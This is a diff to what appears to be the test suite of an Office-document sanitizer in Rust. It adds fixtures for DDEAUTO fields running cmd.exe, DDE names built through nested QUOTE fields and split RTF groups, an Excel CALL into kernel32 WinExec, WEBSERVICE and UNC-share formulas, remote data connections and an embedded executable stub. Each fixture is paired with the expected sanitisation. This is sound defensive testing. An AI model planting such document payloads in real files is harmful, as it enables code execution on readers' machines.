@@ -174,13 +174,75 @@ pub fn cfb_file(streams: &[(&str, Vec<u8>)]) -> Vec<u8> {
     c.into_inner().into_inner()
 }
 
-/// A Word FIB: wIdent, nFib, and the flags word at 0x0A.
+/// A Word 97 FIB: wIdent, nFib, the flags word at 0x0A, and the counts of
+/// its three arrays (14 words, 22 longs, 93 fc/lcb pairs), all zero.
 pub fn word_stream(flags: u16) -> Vec<u8> {
     let mut v = vec![0u8; 1024];
     v[0..2].copy_from_slice(&0xA5ECu16.to_le_bytes());
     v[2..4].copy_from_slice(&0x00C1u16.to_le_bytes());
     v[0x0A..0x0C].copy_from_slice(&flags.to_le_bytes());
+    v[32..34].copy_from_slice(&14u16.to_le_bytes());
+    v[62..64].copy_from_slice(&22u16.to_le_bytes());
+    v[152..154].copy_from_slice(&93u16.to_le_bytes());
     v
+}
+
+/// A Word 97 document whose main text is `text` (8-bit, one piece at
+/// 0x400) with the fields whose characters sit at `marks` (CP, field
+/// character, flt/flags byte): the WordDocument and 1Table streams.
+pub fn word97(text: &[u8], marks: &[(u32, u8, u8)]) -> (Vec<u8>, Vec<u8>) {
+    let mut wd = word_stream(0x0200);
+    wd.resize(0x400, 0);
+    wd.extend_from_slice(text);
+    wd.resize(0x400 + text.len().div_ceil(512) * 512 + 512, 0);
+    let set_lw = |wd: &mut Vec<u8>, i: usize, v: u32| {
+        wd[64 + i * 4..68 + i * 4].copy_from_slice(&v.to_le_bytes())
+    };
+    let set_fclcb = |wd: &mut Vec<u8>, i: usize, fc: u32, lcb: u32| {
+        wd[154 + i * 8..158 + i * 8].copy_from_slice(&fc.to_le_bytes());
+        wd[158 + i * 8..162 + i * 8].copy_from_slice(&lcb.to_le_bytes());
+    };
+    set_lw(&mut wd, 3, text.len() as u32);
+    let mut table = Vec::new();
+    if !marks.is_empty() {
+        for (cp, _, _) in marks {
+            table.extend_from_slice(&cp.to_le_bytes());
+        }
+        table.extend_from_slice(&(text.len() as u32).to_le_bytes());
+        for (_, ch, flags) in marks {
+            table.push(*ch);
+            table.push(*flags);
+        }
+        set_fclcb(&mut wd, 16, 0, table.len() as u32);
+    }
+    let clx_at = table.len() as u32;
+    table.push(0x02);
+    table.extend_from_slice(&16u32.to_le_bytes());
+    table.extend_from_slice(&0u32.to_le_bytes());
+    table.extend_from_slice(&(text.len() as u32).to_le_bytes());
+    table.extend_from_slice(&[0, 0]);
+    table.extend_from_slice(&((0x400u32 * 2) | 0x4000_0000).to_le_bytes());
+    table.extend_from_slice(&[0, 0]);
+    set_fclcb(&mut wd, 33, clx_at, 21);
+    table.resize(512, 0);
+    (wd, table)
+}
+
+/// A Word 97 document with one field: `before`, the field (instruction,
+/// result), `after`.
+pub fn word97_field(before: &str, instr: &str, result: &str, after: &str) -> (Vec<u8>, Vec<u8>) {
+    let mut text = before.as_bytes().to_vec();
+    let b = text.len() as u32;
+    text.push(0x13);
+    text.extend_from_slice(instr.as_bytes());
+    let s = text.len() as u32;
+    text.push(0x14);
+    text.extend_from_slice(result.as_bytes());
+    let e = text.len() as u32;
+    text.push(0x15);
+    text.extend_from_slice(after.as_bytes());
+    text.push(b'\r');
+    word97(&text, &[(b, 0x13, 0x2E), (s, 0x14, 0), (e, 0x15, 0x80)])
 }
 
 fn biff(records: &[(u16, Vec<u8>)]) -> Vec<u8> {
@@ -542,7 +604,8 @@ fn ooxml_cases() -> Vec<Case> {
                 ],
                 &[],
             ),
-            Expect::sanitized(&[code], note),
+            // The sheet's `[1]Sheet1!A1` formula reads the dropped link.
+            Expect::sanitized(&[code, OoxmlField], note),
         ));
     }
     v.push(Case::new(
@@ -615,6 +678,226 @@ fn ooxml_cases() -> Vec<Case> {
             &[OoxmlExternalRel, OoxmlHyperlink],
             "a click action that runs a program removed, its link neutralised",
         ),
+    ));
+
+    // A field whose name a nested QUOTE field produces.
+    let quoted = format!(
+        "{plain}<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> QUOTE &quot;DDE&quot; </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:instrText>AUTO c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/k calc.exe&quot;</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>shown result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
+    );
+    v.push(Case::new(
+        "office/quote_field_name.docx",
+        docx(CT_DOCX, &quoted, &[], vec![], vec![]),
+        Expect::sanitized(
+            &[OoxmlField],
+            "a field whose name starts with the result of a nested QUOTE field: removed, result kept",
+        ),
+    ));
+    v.push(Case::new(
+        "office/macrobutton.docx",
+        docx(CT_DOCX, &format!("{plain}<w:p><w:fldSimple w:instr=\" MACROBUTTON AutoOpen Click \"><w:r><w:t>Click</w:t></w:r></w:fldSimple></w:p>"), &[], vec![], vec![]),
+        Expect::sanitized(&[OoxmlField], "MACROBUTTON is not on the kept field list"),
+    ));
+    let page = format!("{plain}<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> PA</w:instrText></w:r><w:r><w:instrText>GE \\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>");
+    v.push(Case::new(
+        "office/page_field.docx",
+        docx(CT_DOCX, &page, &[], vec![], vec![]),
+        Expect::clean("a PAGE field split over two runs: kept"),
+    ));
+    // Mail merge data source in the settings.
+    let merge = format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:settings {W_NS}><w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:connectString w:val=\"Provider=MSDASQL;DSN=\\\\203.0.113.5\\share\"/><w:query w:val=\"SELECT * FROM t\"/></w:mailMerge><w:zoom w:percent=\"100\"/></w:settings>").into_bytes();
+    v.push(Case::new(
+        "office/mail_merge.docx",
+        docx(
+            CT_DOCX,
+            &plain,
+            &[("rId3", format!("{RELS}/settings"), "settings.xml", false)],
+            vec![(
+                "word/settings.xml",
+                "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
+                merge,
+            )],
+            vec![],
+        ),
+        Expect::sanitized(
+            &[OoxmlDataConnection],
+            "a mail merge data source queried on open removed",
+        ),
+    ));
+    // Web extension task pane loading from a UNC share.
+    let taskpanes = b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><wetp:taskpane dockstate=\"right\" visibility=\"1\" width=\"350\" row=\"0\"><wetp:webextensionref r:id=\"rId1\"/></wetp:taskpane></wetp:taskpanes>".to_vec();
+    let webext = b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><we:webextension xmlns:we=\"http://schemas.microsoft.com/office/webextensions/webextension/2010/11\" id=\"{1}\"><we:reference id=\"wa1\" version=\"1.0.0.0\" store=\"\\\\203.0.113.5\\addins\" storeType=\"Filesystem\"/></we:webextension>".to_vec();
+    v.push(Case::new(
+        "office/webextension_unc.docx",
+        package(
+            "word/document.xml",
+            &[
+                ("word/document.xml", CT_DOCX, word_doc(&plain)),
+                (
+                    "word/webextensions/taskpanes.xml",
+                    "application/vnd.ms-office.webextensiontaskpanes+xml",
+                    taskpanes,
+                ),
+                (
+                    "word/webextensions/webextension1.xml",
+                    "application/vnd.ms-office.webextension+xml",
+                    webext,
+                ),
+            ],
+            &[(
+                "rId2",
+                "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
+                    .to_string(),
+                "word/webextensions/taskpanes.xml",
+                false,
+            )],
+            &[(
+                "word/webextensions/_rels/taskpanes.xml.rels",
+                rels_xml(&[(
+                    "rId1",
+                    "http://schemas.microsoft.com/office/2011/relationships/webextension"
+                        .to_string(),
+                    "webextension1.xml",
+                    false,
+                )]),
+            )],
+            &[],
+        ),
+        Expect::sanitized(
+            &[OoxmlDataConnection],
+            "a web extension task pane loading an add-in from a UNC share removed",
+        ),
+    ));
+    // A UTF-16 custom XML part: written back as UTF-8, declared as such.
+    let utf16: Vec<u8> = [0xFFu8, 0xFE]
+        .into_iter()
+        .chain(
+            "<?xml version=\"1.0\" encoding=\"utf-16\"?><root xmlns=\"urn:x\"><v>データ</v></root>"
+                .encode_utf16()
+                .flat_map(|u| u.to_le_bytes()),
+        )
+        .collect();
+    v.push(Case::new(
+        "office/utf16_customxml.docx",
+        docx(
+            CT_DOCX,
+            &plain,
+            &[(
+                "rId8",
+                format!("{RELS}/customXml"),
+                "../customXml/item1.xml",
+                false,
+            )],
+            vec![("customXml/item1.xml", "application/xml", utf16)],
+            vec![],
+        ),
+        Expect::clean("a UTF-16 custom XML part, rewritten as UTF-8 with a matching declaration"),
+    ));
+
+    // Excel: data connections, query tables, Power Query, call-out formulas.
+    let conn = b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" name=\"q\" type=\"4\" refreshedVersion=\"6\" refreshOnLoad=\"1\"><webPr url=\"http://203.0.113.5/data.html\"/></connection></connections>".to_vec();
+    let wb_rels = |extra: Vec<Rel<'static>>| {
+        let mut r: Vec<Rel<'static>> = vec![(
+            "rId1",
+            format!("{RELS}/worksheet"),
+            "worksheets/sheet1.xml",
+            false,
+        )];
+        r.extend(extra);
+        rels_xml(&r)
+    };
+    v.push(Case::new(
+        "office/connections.xlsx",
+        package(
+            "xl/workbook.xml",
+            &[
+                (
+                    "xl/workbook.xml",
+                    CT_XLSX,
+                    workbook("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>", ""),
+                ),
+                (
+                    "xl/worksheets/sheet1.xml",
+                    CT_SHEET,
+                    sheet("<c r=\"A1\"><v>1</v></c>"),
+                ),
+                (
+                    "xl/connections.xml",
+                    "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
+                    conn,
+                ),
+            ],
+            &[],
+            &[(
+                "xl/_rels/workbook.xml.rels",
+                wb_rels(vec![(
+                    "rId2",
+                    format!("{RELS}/connections"),
+                    "connections.xml",
+                    false,
+                )]),
+            )],
+            &[],
+        ),
+        Expect::sanitized(
+            &[OoxmlDataConnection],
+            "xl/connections.xml (a web query refreshed on load) removed",
+        ),
+    ));
+    let mashup: Vec<u8> = [0xFFu8, 0xFE]
+        .into_iter()
+        .chain(
+            "<?xml version=\"1.0\" encoding=\"utf-16\"?><DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">AAAAAEQDAABQSwMEFAACAAgA</DataMashup>"
+                .encode_utf16()
+                .flat_map(|u| u.to_le_bytes()),
+        )
+        .collect();
+    v.push(Case::new(
+        "office/power_query.xlsx",
+        package(
+            "xl/workbook.xml",
+            &[
+                (
+                    "xl/workbook.xml",
+                    CT_XLSX,
+                    workbook("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>", ""),
+                ),
+                (
+                    "xl/worksheets/sheet1.xml",
+                    CT_SHEET,
+                    sheet("<c r=\"A1\"><v>1</v></c>"),
+                ),
+                ("customXml/item1.xml", "application/xml", mashup),
+            ],
+            &[],
+            &[(
+                "xl/_rels/workbook.xml.rels",
+                wb_rels(vec![(
+                    "rId3",
+                    format!("{RELS}/customXml"),
+                    "../customXml/item1.xml",
+                    false,
+                )]),
+            )],
+            &[],
+        ),
+        Expect::sanitized(
+            &[OoxmlDataConnection],
+            "Power Query (DataMashup in a UTF-16 custom XML part) removed",
+        ),
+    ));
+    v.push(Case::new(
+        "office/callout_formulas.xlsx",
+        package(
+            "xl/workbook.xml",
+            &[
+                ("xl/workbook.xml", CT_XLSX, workbook("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>", "<definedNames><definedName name=\"Remote\">'\\\\203.0.113.5\\share\\[book.xlsx]Sheet1'!$A$1</definedName><definedName name=\"Local\">S!$A$1</definedName></definedNames>")),
+                ("xl/worksheets/sheet1.xml", CT_SHEET, sheet("<c r=\"A1\"><f>WEBSERVICE(\"http://203.0.113.5/x\")</f><v>0</v></c><c r=\"B1\"><f>_xlfn.CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</f><v>0</v></c><c r=\"C1\"><f>[1]Sheet1!A1</f><v>42</v></c><c r=\"D1\"><f>SUM(A1:C1)&amp;\"[1]\"</f><v>42</v></c>")),
+            ],
+            &[],
+            &[("xl/_rels/workbook.xml.rels", wb_rels(vec![]))],
+            &[],
+        ),
+        Expect::sanitized(&[OoxmlField], "WEBSERVICE, CALL and external-workbook formulas and a defined name into a share removed, cached values kept"),
     ));
 
     // Limits.
@@ -728,6 +1011,79 @@ fn ole_cases() -> Vec<Case> {
         ]),
         Expect::blocked(OleEncrypted, &[], "Word binary with FIB fEncrypted"),
     ));
+    let (wd, tbl) = word97_field(
+        "Before ",
+        " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" ",
+        "shown result",
+        " After",
+    );
+    v.push(Case::new(
+        "office/dde_field.doc",
+        cfb_file(&[("/WordDocument", wd), ("/1Table", tbl)]),
+        Expect::sanitized(
+            &[OleField],
+            "Word binary with a DDEAUTO field found through PlcfFldMom: instruction blanked in place, result kept",
+        ),
+    ));
+    let (wd, tbl) = word97_field("Page ", " PAGE \\* MERGEFORMAT ", "1", "");
+    v.push(Case::new(
+        "office/page_field.doc",
+        cfb_file(&[("/WordDocument", wd), ("/1Table", tbl)]),
+        Expect::clean("Word binary with a PAGE field (on the kept list)"),
+    ));
+    let (wd, tbl) = word97_field("", " MACROBUTTON Go run ", "click", "");
+    v.push(Case::new(
+        "office/macrobutton_field.doc",
+        cfb_file(&[("/WordDocument", wd), ("/1Table", tbl)]),
+        Expect::sanitized(
+            &[OleField],
+            "Word binary MACROBUTTON field: off the kept list",
+        ),
+    ));
+    // A field whose name a nested QUOTE field produces.
+    let mut text = b"Before ".to_vec();
+    let mut marks = Vec::new();
+    for (part, mark) in [
+        (&b""[..], Some((0x13u8, 0x2Eu8))),
+        (b" ", Some((0x13, 0x23))),
+        (b" QUOTE \"DDE\" ", Some((0x14, 0))),
+        (b"DDE", Some((0x15, 0x80))),
+        (
+            b"AUTO c:\\\\windows\\\\system32\\\\cmd.exe ",
+            Some((0x14, 0)),
+        ),
+        (b"shown result", Some((0x15, 0x80))),
+        (b" After\r", None),
+    ] {
+        text.extend_from_slice(part);
+        if let Some((ch, flags)) = mark {
+            marks.push((text.len() as u32, ch, flags));
+            text.push(ch);
+        }
+    }
+    let (wd, tbl) = word97(&text, &marks);
+    v.push(Case::new(
+        "office/quote_field_name.doc",
+        cfb_file(&[("/WordDocument", wd), ("/1Table", tbl)]),
+        Expect::sanitized(
+            &[OleField],
+            "Word binary field whose name a nested QUOTE field builds: instruction blanked, result kept",
+        ),
+    ));
+    v.push(Case::new(
+        "office/irm.doc",
+        cfb_file(&[
+            ("/WordDocument", word_stream(0x0200)),
+            ("/1Table", table.clone()),
+            ("/\u{6}DataSpaces/Version", vec![0u8; 64]),
+            ("/\u{9}DRMContent", vec![0x5Au8; 4096]),
+        ]),
+        Expect::blocked(
+            OleEncrypted,
+            &[],
+            "rights-managed (IRM) Word document: the content sits encrypted in DRMContent",
+        ),
+    ));
     v.push(Case::new(
         "office/clean.xls",
         cfb_file(&[("/Workbook", workbook_stream(0, false))]),
@@ -777,16 +1133,57 @@ fn ole_cases() -> Vec<Case> {
                     0x000F,
                     0x03FF,
                     vec![
+                        0x00, 0x00, 0x00, 0x04, 0x0C, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0,
+                    ],
+                )]),
+            ),
+            ("/Current User", vec![0u8; 32]),
+        ]),
+        Expect::sanitized(
+            &[OleVba],
+            "PowerPoint binary whose VBAInfoAtom says it has macros: marked absent",
+        ),
+    ));
+    let object = cfb_file(&[("/\u{1}Ole10Native", b"\x10\0\0\0payload.exe\0MZ".to_vec())]);
+    v.push(Case::new(
+        "office/embedded_object.ppt",
+        cfb_file(&[
+            (
+                "/PowerPoint Document",
+                ppt_stream(&[
+                    (0x0001, 0x03E9, vec![0; 40]),
+                    (0x0000, 0x1011, object),
+                ]),
+            ),
+            ("/Current User", vec![0u8; 32]),
+        ]),
+        Expect::sanitized(
+            &[OleEmbedded],
+            "PowerPoint binary with an embedded package (ExOleObjStg): the storage is emptied in place",
+        ),
+    ));
+    v.push(Case::new(
+        "office/vba_info_no_macros.ppt",
+        cfb_file(&[
+            (
+                "/PowerPoint Document",
+                ppt_stream(&[(
+                    0x000F,
+                    0x03FF,
+                    vec![
                         0x00, 0x00, 0x00, 0x04, 0x0C, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0, 0,
                     ],
                 )]),
             ),
             ("/Current User", vec![0u8; 32]),
         ]),
-        Expect::blocked(
-            OleVba,
-            &[],
-            "PowerPoint binary with a VBA project inside its document stream",
+        Expect::clean("PowerPoint binary with a VBA-info record whose fHasMacros is 0: no macros"),
+    ));
+    v.push(Case::new(
+        "office/book_upper.xls",
+        cfb_file(&[("/BOOK", workbook_stream(0, false))]),
+        Expect::clean(
+            "an Excel 5 workbook whose stream is named BOOK (names compare case-insensitively)",
         ),
     ));
     v.push(Case::new(
@@ -839,7 +1236,47 @@ fn rtf_cases() -> Vec<Case> {
     v.push(Case::new(
         "office/ddeauto.rtf",
         format!("{head}{{\\field{{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}}{{\\fldrslt x}}}}\\par}}").into_bytes(),
-        Expect::sanitized(&[RtfObject], "DDEAUTO field instruction removed (reported as rtf.object)"),
+        Expect::sanitized(&[RtfField], "DDEAUTO field instruction removed, its result kept"),
+    ));
+    v.push(Case::new(
+        "office/bin_upper_equation.rtf",
+        format!("{head}Before\\BIN60 {{\\object\\objemb{{\\*\\objclass Equation.3}}{{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000000}}{{\\result{{shown}}}}}}After\\par}}").into_bytes(),
+        Expect::sanitized(
+            &[RtfObject, RtfDropped],
+            "\\BIN is not \\bin (control words are case-sensitive): the Equation Editor object behind it is read and removed, the foreign word dropped",
+        ),
+    ));
+    v.push(Case::new(
+        "office/ddeauto_split_groups.rtf",
+        format!("{head}{{\\field{{\\*\\fldinst {{\\rtlch DD}}{{\\b E}}A\\'55TO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}}{{\\fldrslt shown}}}}\\par}}").into_bytes(),
+        Expect::sanitized(
+            &[RtfField],
+            "DDEAUTO split across groups and a hex escape: joined without separators, removed",
+        ),
+    ));
+    v.push(Case::new(
+        "office/quote_field_name.rtf",
+        format!("{head}{{\\field{{\\*\\fldinst {{\\field{{\\*\\fldinst QUOTE \"DDEAUTO\"}}{{\\fldrslt DDEAUTO}}}} c:\\\\windows\\\\system32\\\\cmd.exe}}{{\\fldrslt shown}}}}\\par}}").into_bytes(),
+        Expect::sanitized(
+            &[RtfField],
+            "a field whose name a nested QUOTE field builds: removed, result kept",
+        ),
+    ));
+    v.push(Case::new(
+        "office/linked_picture.rtf",
+        format!("{head}{{\\shp{{\\*\\shpinst\\shpleft0\\shptop0\\shpright100\\shpbottom100{{\\sp{{\\sn shapeType}}{{\\sv 75}}}}{{\\sp{{\\sn pibName}}{{\\sv \\\\\\\\203.0.113.5\\\\share\\\\x.png}}}}{{\\sp{{\\sn pibFlags}}{{\\sv 10}}}}}}}}Text\\par}}").into_bytes(),
+        Expect::sanitized(
+            &[RtfDropped],
+            "a shape whose picture is linked to a file on a share (pibName): the file name is removed",
+        ),
+    ));
+    v.push(Case::new(
+        "office/unknown_destination.rtf",
+        format!("{head}{{\\*\\mydata 4d5a9000}}{{\\*\\generator Word;}}Text\\par}}").into_bytes(),
+        Expect::sanitized(
+            &[RtfDropped],
+            "an ignorable destination outside the kept list dropped; \\*\\generator kept",
+        ),
     ));
     v.push(Case::new(
         "office/stray_objdata.rtf",
